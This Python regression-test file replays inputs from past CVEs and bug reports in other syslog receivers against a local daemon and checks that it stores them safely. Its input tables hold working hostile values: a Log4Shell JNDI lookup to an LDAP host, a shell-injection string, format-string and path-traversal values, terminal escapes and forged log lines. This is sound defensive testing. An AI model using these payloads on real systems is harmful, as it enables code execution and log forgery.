"""What has brought down, fooled or filled up other receivers, sent to ours.

tests/cves.md has a row for each case: whose bug it was, what we send, and in
its last column what must become of it. The input of each id is here. The two
must name the same ids.
"""

import base64
import collections
import contextlib
import os
import re
import shutil
import socket
import ssl
import stat
import tempfile
import time

import certificates
import harness
from harness import LOOPBACK, connect, counted, is_closed, message, wait_until

TABLE = os.path.join(harness.ROOT, "tests", "cves.md")
MAX = 8192
ROOM = 48 << 20  # for TLS sessions, and what the sanitizer holds back


# --- inputs ------------------------------------------------------------------

GOOD = message("cve", 0)
BODY = GOOD.partition(b"SymantecServer: ")[2]


def line(*parts):
    return b"".join(parts) + b"\n"


def with_pri(pri):
    return pri + GOOD.partition(b">")[2]


def with_header(header):
    return header + b" SymantecServer: " + BODY


def with_field(label, value):
    """The good message with another value."""
    name = b"," + label + b": "
    before, found, rest = GOOD.partition(name)
    assert found, label
    return before + name + value + b"," + rest.partition(b",")[2]


def padded(data, length):
    return data + b"z" * (length - len(data))


def table():
    """(id, outcome) of each row."""
    with open(TABLE, encoding="utf-8") as file:
        rows = [[cell.strip() for cell in row.strip("|\n ").split("|")]
                for row in file if row.startswith("| ")]
    return [(row[0].partition("]")[0].lstrip("["), row[-1])
            for row in rows if row[0] != "id"]


# id: (transport, bytes). On TCP and TLS the bytes are followed by a good
# message on the same connection; on UDP they are one datagram.
# fmt: off
INPUTS = {
    # PRI and the rest of the header
    "CVE-2014-3634": ("udp", with_pri(b"<999>")),
    "CVE-2014-3683": ("udp", with_pri(b"<" + b"2" * 40 + b">")),
    "CVE-2011-3200": ("udp", b"<54>May 14 09:40:00 pc " + b"t" * 600 + b": x"),
    "CVE-2007-6437": ("udp", b"<54>May 14 09:40:00"),
    "CVE-2022-38725": ("tcp", line(with_header(
        b"<54>2024-05-14T09:40:00." + b"9" * 400 + b"+99:99 h"))),
    "rsyslog#102": ("udp", b"\x01\x02\x03"),
    "rsyslog#1789": ("udp", b"<54>May 14 09:40:00 SymantecServer: " + BODY),
    "rsyslog#3012": ("udp", with_header(b"<54>May 14 09:40:00 2001:db8::")),
    "vector#26103": ("tcp", line(with_header(
        b"<54>1 2024-05-14T09:40:00Z 2001:db8::7")
        .replace(b" SymantecServer: ", b" SymantecServer - - - "))),
    "UniFi-Insights-Plus#111": ("udp", with_header(b"<54>Feb 99 99:99:99 h")),
    "crowdsec#1505": ("udp", b"<54>Foo 14 09:40:00 h x[1]: not a date"),
    "tenzir#4012": ("tcp", b"<54>May 14 09:40:00 h a: one\n  at two\n\tat three\n"),
    "alloy#2275": ("tcp", b"free text, as a human would write it\n"),
    "alloy#2287": ("udp", with_header(b"<54>0000-00-00T00:00:00Z h")),
    "ossec-hids#1816": ("udp", b"May 14 09:40:00 h sshd: [ID 0 auth.notice]"),

    # structured data
    "syslog-ng#3581": ("tcp", line(
        b'<54>1 2024-05-14T09:40:00Z h a 1 - [x@1 k="v tid="7"] cut short')),
    "syslog-ng#3601": ("tcp", line(
        b'<54>1 2024-05-14T09:40:00Z h a 1 - [x@1 a="' + b"{0x1,0x2}" * 300)),
    "syslog-ng#2078": ("tcp", line(b"<54>1 yesterday h a 1 - [")),

    # parsers of special forms
    "CVE-2019-17040": ("udp", b"2024-05-14-09.40.00.000000+000 I1E" + b"7" * 9
                       + b" LEVEL:"),
    "CVE-2019-17041": ("udp", b"<54>May 14 09:40:00 Message forwarded from "
                       + b"h" * 300),
    "CVE-2019-17042": ("udp", b"<54>May 14 09:40:00 " + b"10.0.0.1 " * 40
                       + b"%"),
    "CVE-2018-16866": ("udp", b"<54>May 14 09:40:00 h tag:"),
    "nDPI#1579": ("udp", b"<54>" + b"A" * 3 + b":"),
    "CVE-2017-12588": ("udp", with_field(b"Rule", b"%n%n%s%s%1$99999x")),
    "CVE-2014-4326": ("udp", with_field(
        b"Rule", b"x'; touch ${IFS}/tmp/owned; `id` $(id) '")),
    "CVE-2021-44228": ("udp", with_field(
        b"User Name", b"${jndi:ldap://192.0.2.9/a}")),
    "CVE-2021-45105": ("udp", with_field(b"User Name", b"${${::-${::-$${::-j}}}}")),
    "CVE-2017-5645": ("tcp", bytes.fromhex("aced0005737200") + b"\x16java.x\n"),
    "CVE-2022-39379": ("udp", b'{"^o":"Kernel","^u":["x",1]}'),
    "CVE-2024-50609": ("tcp", b"POST /v1/logs HTTP/1.1\r\nContent-Length: 0\r\n"
                       b"\r\n"),
    "CVE-2024-4323": ("tcp", b"POST /api/v1/traces HTTP/1.1\r\n\r\n"
                      b'{"inputs":[1,2,3]}\n'),
    "CVE-2021-41186": ("udp", b"<54>" + b'"' * 4000),

    # names of files and streams
    "CVE-2025-12972": ("udp", b"<54>May 14 09:40:00 ../../../tmp/x "
                       b"SymantecServer: " + BODY),
    "CVE-2025-12977": ("udp", with_field(
        b"User Name", b"a\n{\"type\":\"traffic\",\"user\":\"forged\"}\nb")),
    "CVE-2015-4152": ("udp", with_field(b"Rule", b"%{[../../etc/x]}")),
    "rsyslog#5556": ("tcp", line(padded(
        b"<54>May 14 09:40:00 h/../../x SymantecServer: ", 3 * MAX))),

    # what a terminal or a line-based reader would make of it
    "CVE-2017-10906": ("udp", with_field(
        b"Rule", b"\x1b]2;owned\x07\x1b[2J\xc2\x9b31m")),
    "CVE-2023-32712": ("udp", b"<13>GET /\x1b[8m hidden \x1b[0m"),
    "rsyslog#5090": ("tcp", line(padded(GOOD, MAX - 1))),
    "AxoSyslog-867ecef76": ("udp", b"<13>" + b"\xff" * 16000),

    # framing
    "CVE-2022-24903": ("tcp", b"9" * 20000 + b" <54>x\n"),
    "CVE-2018-16881": ("tcp", b"2147483648 <54>x\n"),
    "CVE-2011-4623": ("tcp", line(b"<54>", b"q" * (4 << 20))),
    "rsyslog#745": ("tcp", line(padded(GOOD, 3 * MAX))),
    "rsyslog#3638": ("tcp", counted(padded(GOOD, MAX + 1))),
    "rsyslog#4283": ("tcp", line(padded(GOOD, MAX - 1))
                     + line(padded(GOOD, MAX)) + line(padded(GOOD, MAX + 1))),
    "rsyslog#6951": ("tcp", line(padded(GOOD, MAX + 1)) * 2),
    "rsyslog#7603": ("tls", line(padded(GOOD, 2 * MAX))),
    "rsyslog#4940": ("udp", with_field(b"Remote Host IP",
                                       b"1.2.3." + b"4" * 2000)),
    "syslog-ng#375": ("udp", padded(GOOD, MAX + 100)),
    "vector#262": ("tcp", counted(padded(GOOD, 20 * MAX))),
    "vector#26439": ("udp", padded(GOOD, 60000)),
    "datadog-agent#54492": ("tcp", b"54 <1 minute elapsed\n"),
    "fluent-bit#2741": ("tcp", line(GOOD, b"\0")),
    "fluent-bit#845": ("tcp", b"\n\n\0\0\n" + line(GOOD) * 3),
    "fluent-bit#781": ("tcp", b"<" * 9000 + b"\n"),
    "loki#4270": ("tcp", b"<>\n<54\n54>\n"),
    "syslog-ng#5167": ("tcp", counted(GOOD) + line(GOOD) + counted(GOOD)),
    "CVE-2018-16865": ("tls", line(b",".join(
        b"F%d: v" % n for n in range(900)))),
}
# fmt: on


# What a field of the record must be, to the letter.
FIELDS = {
    "CVE-2017-12588": ("rule", "%n%n%s%s%1$99999x"),
    "CVE-2014-4326": ("rule", "x'; touch ${IFS}/tmp/owned; `id` $(id) '"),
    "CVE-2021-44228": ("user", "${jndi:ldap://192.0.2.9/a}"),
    "CVE-2021-45105": ("user", "${${::-${::-$${::-j}}}}"),
    "CVE-2025-12977": ("user", 'a\n{"type":"traffic","user":"forged"}\nb'),
    "CVE-2025-12972": ("sepm", "../../../tmp/x"),
    "CVE-2015-4152": ("rule", "%{[../../etc/x]}"),
    "CVE-2017-10906": ("rule", "\x1b]2;owned\x07\x1b[2J\x9b31m"),
    "rsyslog#3012": ("sepm", "2001:db8::"),
    "vector#26103": ("sepm", "2001:db8::7"),
}


class Replay(harness.Case):
    def setUp(self):
        super().setUp()
        harness.need("openssl")
        self.home = tempfile.mkdtemp(prefix="sepmlogd-cves-")
        self.addCleanup(shutil.rmtree, self.home)
        self.ca = certificates.Authority(os.path.join(self.home, "ca"))
        self.server = self.ca.issue(
            "server", f"DNS:localhost,IP:{LOOPBACK}", "serverAuth")
        self.expected = dict(table())
        self.marks = 0

    def start(self, *tls_keys, config="", listen=None, **more):
        port, tls = harness.free_port(), harness.free_port()
        certificate, key = self.server
        listen = listen or [
            ("udp", f"{LOOPBACK}:{port}"), ("tcp", f"{LOOPBACK}:{port}"),
            ("tls", f"{LOOPBACK}:{tls}",
             [f"certificate: {certificate}", f"key: {key}", *tls_keys])]
        sepmlogd = self.daemon(f"daemon{len(self.daemons)}", listen=listen,
                               config=f"max_message: {MAX}\n" + config,
                               **more)
        sepmlogd.port, sepmlogd.tls = port, tls
        return self.enterContext(sepmlogd)

    @contextlib.contextmanager
    def session(self, sepmlogd, pair=None, source=None):
        context = ssl.create_default_context(cafile=self.ca.certificate)
        if pair:
            context.load_cert_chain(*pair)
        with connect(sepmlogd.tls, source) as plain, \
                context.wrap_socket(plain, server_hostname=LOOPBACK) as peer:
            yield peer

    def send(self, sepmlogd, transport, data):
        if transport == "udp":
            with socket.socket(type=socket.SOCK_DGRAM) as peer:
                peer.connect((LOOPBACK, sepmlogd.port))
                peer.send(data)
                peer.send(message("mark", self.marks))
            return
        with (connect(sepmlogd.port) if transport == "tcp"
              else self.session(sepmlogd)) as peer:
            peer.sendall(data)
            peer.sendall(message("mark", self.marks) + b"\n")

    def arrived(self, sepmlogd):
        """The records of the last input, once the good message behind it is
        there, too."""
        user, seen = f"mark-{self.marks}", []

        def there():
            self.assertIsNone(sepmlogd.process.poll(), "the daemon is gone")
            seen[:] = sepmlogd.spool.records()
            return any(r.get("user") == user for r in seen)
        wait_until(there, f"{user} behind it")
        self.marks += 1
        # Streams are written one after the other: another one's records may
        # come a moment later.
        time.sleep(0.1 * harness.PATIENCE)
        return sepmlogd.spool.records()

    def outcome(self, records):
        """In words, such as `1 traffic, 2 unparsed (truncated)`."""
        kinds = collections.Counter(
            r["type"] + (f" ({', '.join(r['flags'])})" if "flags" in r else "")
            for r in records)
        return ", ".join(f"{n} {kind}" for kind, n in sorted(kinds.items())
                         ) or "nothing"

    def assert_original(self, records, sent):
        """What could not be read is there byte by byte."""
        for record in records:
            if record["type"] != "unparsed":
                continue
            held = (base64.b64decode(record["raw_base64"])
                    if "raw_base64" in record else record["raw"].encode())
            self.assertIn(held, sent)
            self.assertTrue(held)

    def assert_outcome(self, identifier, outcome):
        self.assertEqual(outcome, self.expected[identifier], identifier)

    # -- the list

    def test_the_table_and_the_cases_agree(self):
        rows = [identifier for identifier, _ in table()]
        self.assertEqual(len(rows), len(set(rows)), "an id is there twice")
        cases = set(INPUTS) | set(CASES)
        self.assertEqual(set(INPUTS) & set(CASES), set())
        self.assertEqual(set(rows), cases)
        self.assertGreaterEqual(len(rows), 40)

    def test_inputs(self):
        sepmlogd = self.start()
        self.send(sepmlogd, "tls", b"")
        known = {r["id"] for r in self.arrived(sepmlogd)}
        before = sepmlogd.memory()
        for identifier, (transport, data) in INPUTS.items():
            with self.subTest(identifier):
                self.send(sepmlogd, transport, data)
                records = [r for r in self.arrived(sepmlogd)
                           if r["id"] not in known
                           and not r.get("user", "").startswith("mark-")]
                known |= {r["id"] for r in records}
                self.assert_original(records, data)
                if identifier in FIELDS:
                    name, value = FIELDS[identifier]
                    self.assertEqual([r.get(name) for r in records], [value])
                self.assert_outcome(identifier, self.outcome(records))
        self.assertLess(sepmlogd.memory() - before, ROOM)
        self.assert_complete(sepmlogd.spool.numbers(),
                             {"mark": self.marks})
        self.assert_nothing_elsewhere(sepmlogd)
        sepmlogd.stop_cleanly()
        self.assertNotIn("ERROR: AddressSanitizer", sepmlogd.log())

    def assert_nothing_elsewhere(self, sepmlogd):
        """No input has become a stream, a file or a line of the log."""
        self.assertEqual(
            sorted(os.listdir(os.path.join(sepmlogd.spool_path, "live"))),
            ["events", "traffic", "unparsed"])
        self.assertFalse(os.path.exists("/tmp/owned"))
        self.assertNotIn("forged", sepmlogd.log())

    # -- those that take more than bytes; each answers its outcome

    def run_case(self, identifier):
        self.assert_outcome(identifier, getattr(self, CASES[identifier])())

    def an_unterminated_last_line(self):
        sepmlogd = self.start()
        with connect(sepmlogd.port) as peer:
            peer.sendall(GOOD)
        return self.outcome(sepmlogd.spool.wait_records(1))

    def cut_inside_its_count(self):
        sepmlogd = self.start()
        frame = counted(GOOD)
        with connect(sepmlogd.port) as peer:
            peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for piece in (frame[:1], frame[1:2], frame[2:5], frame[5:]):
                peer.sendall(piece)
                time.sleep(0.01)
        return self.outcome(sepmlogd.spool.wait_records(1))

    def the_same_over_and_over(self):
        # Sanitizers keep what was freed, for a while.
        sepmlogd = self.start(program=harness.need_release())
        used = []
        # The first rounds fill the buffers of the spool.
        for rounds in range(1, 7):
            with connect(sepmlogd.port) as peer:
                peer.sendall(line(GOOD) * 10000)
            wait_until(lambda n=rounds: sum(
                1 for _ in sepmlogd.spool.lines()) >= n * 10000,
                f"{rounds} times 10000 stored", 60, 0.2)
            used.append(sepmlogd.own_memory())
        print("\n  memory after each 10000:", *(n >> 10 for n in used), "KiB")
        self.assertLess(used[5] - used[3], 1 << 20)
        return self.outcome(sepmlogd.spool.records())

    def a_peer_that_vanishes(self):
        """The kernel asks whether it is there: the timer of our side of the
        connection is that of keepalive (2, in proc(5)'s tcp)."""
        sepmlogd = self.start()
        with connect(sepmlogd.port) as peer:
            peer.sendall(line(GOOD))
            records = sepmlogd.spool.wait_records(1)
            ours = f":{sepmlogd.port:04X}"
            its = f":{peer.getsockname()[1]:04X}"
            with open("/proc/net/tcp", encoding="ascii") as file:
                rows = [words for words in map(str.split, file)
                        if words[1].endswith(ours) and words[2].endswith(its)]
            self.assertEqual([words[5].split(":")[0] for words in rows],
                             ["02"])
        return self.outcome(records) + ", asked for"

    def more_connections_than_allowed(self):
        sepmlogd = self.start(config="max_connections_per_source: 8\n")
        peers = [connect(sepmlogd.port, "127.0.0.2") for _ in range(40)]
        for peer in peers:
            self.addCleanup(peer.close)
        closed = sum(is_closed(peer, 0.2) for peer in peers)
        harness.send_tcp(sepmlogd.port, "other", 1)
        self.assertEqual(closed, 32)
        self.assertLessEqual(sepmlogd.log().count("127.0.0.2"), 2)
        return ("32 of 40 refused, "
                + self.outcome(sepmlogd.spool.wait_records(1)))

    def flood_of_a_stranger(self):
        """Its outcome, and how many lines the log has of it."""
        port = harness.free_port()
        sepmlogd = self.start(listen=[
            ("udp", f"{LOOPBACK}:{port}", [])],
            config="allow: [127.0.0.9/32]\n")
        with socket.socket(type=socket.SOCK_DGRAM) as peer:
            for _ in range(1000):
                peer.sendto(GOOD, (LOOPBACK, port))
            peer.close()
        with socket.socket(type=socket.SOCK_DGRAM) as peer:
            peer.bind(("127.0.0.9", 0))
            peer.sendto(message("own", 0), (LOOPBACK, port))
        records = sepmlogd.spool.wait_records(1)
        self.assertEqual([r["user"] for r in records], ["own-0"])
        return sepmlogd.log().count("not in `allow`")

    def strangers(self):
        self.flood_of_a_stranger()
        return "refused"

    def strangers_in_the_log(self):
        return f"refused, {self.flood_of_a_stranger()} line in the log"

    def modes_of_files(self):
        sepmlogd = self.start()
        harness.send_tcp(sepmlogd.port, "mode", 1)
        sepmlogd.spool.wait_records(1)
        sepmlogd.stop_cleanly()
        paths = sepmlogd.spool.ready() + [sepmlogd.spool_path]
        self.assertGreaterEqual(len(paths), 2)
        for path in paths:
            self.assertEqual(os.stat(path).st_mode & stat.S_IRWXO, 0, path)
        return "no file for others"

    def refused_names(self, sepmlogd, *names):
        for at, name in enumerate(names):
            pair = self.ca.issue(f"peer{at}", name)
            with self.subTest(name), contextlib.suppress(
                    ssl.SSLError, ConnectionError), \
                    self.session(sepmlogd, pair, f"127.0.0.{20 + at}") as peer:
                peer.sendall(GOOD + b"\n")
                peer.settimeout(10)
                self.assertEqual(peer.recv(1), b"")
        self.assertEqual(sepmlogd.spool.records(), [])

    def tls_names(self, *permitted):
        return self.start(f"client_ca: {self.ca.certificate}",
                          f"permitted_peers: [{', '.join(permitted)}]")

    def a_wildcard_inside(self):
        sepmlogd = self.tls_names('"sepm1.branch.example"')
        self.refused_names(sepmlogd, "DNS:sepm*.branch.example",
                           "DNS:sepm1.*.example", "DNS:*1.branch.example")
        return "refused"

    def many_long_names(self):
        sepmlogd = self.tls_names('"sepm1.branch.example"')
        names = ",".join(f"DNS:{'n' * 60}.{n}.example" for n in range(200))
        self.refused_names(sepmlogd, names)
        # and one that has the right name behind all these
        pair = self.ca.issue("last", names + ",DNS:sepm1.branch.example")
        with self.session(sepmlogd, pair) as peer:
            peer.sendall(GOOD + b"\n")
        records = sepmlogd.spool.wait_records(1)
        return "refused; with the right name " + self.outcome(records)

    def an_old_certificate(self):
        sepmlogd = self.tls_names('"sepm1.branch.example"')
        pair = self.ca.issue("old", "DNS:sepm1.branch.example",
                             start="200101000000Z", end="210101000000Z")
        with contextlib.suppress(ssl.SSLError, ConnectionError), \
                self.session(sepmlogd, pair) as peer:
            peer.sendall(GOOD + b"\n")
            peer.settimeout(10)
            self.assertEqual(peer.recv(1), b"")
        sepmlogd.wait_log("certificate has expired")
        self.assertEqual(sepmlogd.spool.records(), [])
        return "refused"

    def a_silent_tls_peer(self):
        sepmlogd = self.start()
        with self.session(sepmlogd) as peer:
            peer.sendall(GOOD[:40])
            time.sleep(0.2)
            self.assertLess(sepmlogd.cpu_share(1), 0.1)
            peer.sendall(GOOD[40:] + b"\n")
            return self.outcome(sepmlogd.spool.wait_records(1))

    def peers_that_have_gone(self):
        sepmlogd = self.start()
        files = sepmlogd.open_files()
        for _ in range(100):
            connect(sepmlogd.port).close()
        # The spool may have opened a file or two since.
        wait_until(lambda: sepmlogd.open_files() <= files + 5,
                   "all connections are closed here, too")
        return "none left open"


# id: the method of Replay that replays it
CASES = {
    "fluentd#1270": "an_unterminated_last_line",
    "fluentd#2298": "cut_inside_its_count",
    "CVE-2011-1488": "the_same_over_and_over",
    "CVE-1999-0831": "more_connections_than_allowed",
    "CVE-2008-5617": "strangers",
    "CVE-2008-5618": "strangers_in_the_log",
    "CVE-2015-3243": "modes_of_files",
    "CVE-2024-47619": "a_wildcard_inside",
    "CVE-2018-1000140": "many_long_names",
    "rsyslog#4425": "an_old_certificate",
    "rsyslog#4834": "a_silent_tls_peer",
    "syslog-ng#3290": "peers_that_have_gone",
    "OpenBSD 2020-09-14": "a_peer_that_vanishes",
}


def _add_cases():
    for identifier in CASES:
        name = "test_" + re.sub(r"\W", "_", identifier)
        setattr(Replay, name,
                lambda self, case=identifier: self.run_case(case))


_add_cases()

if __name__ == "__main__":
    harness.main()
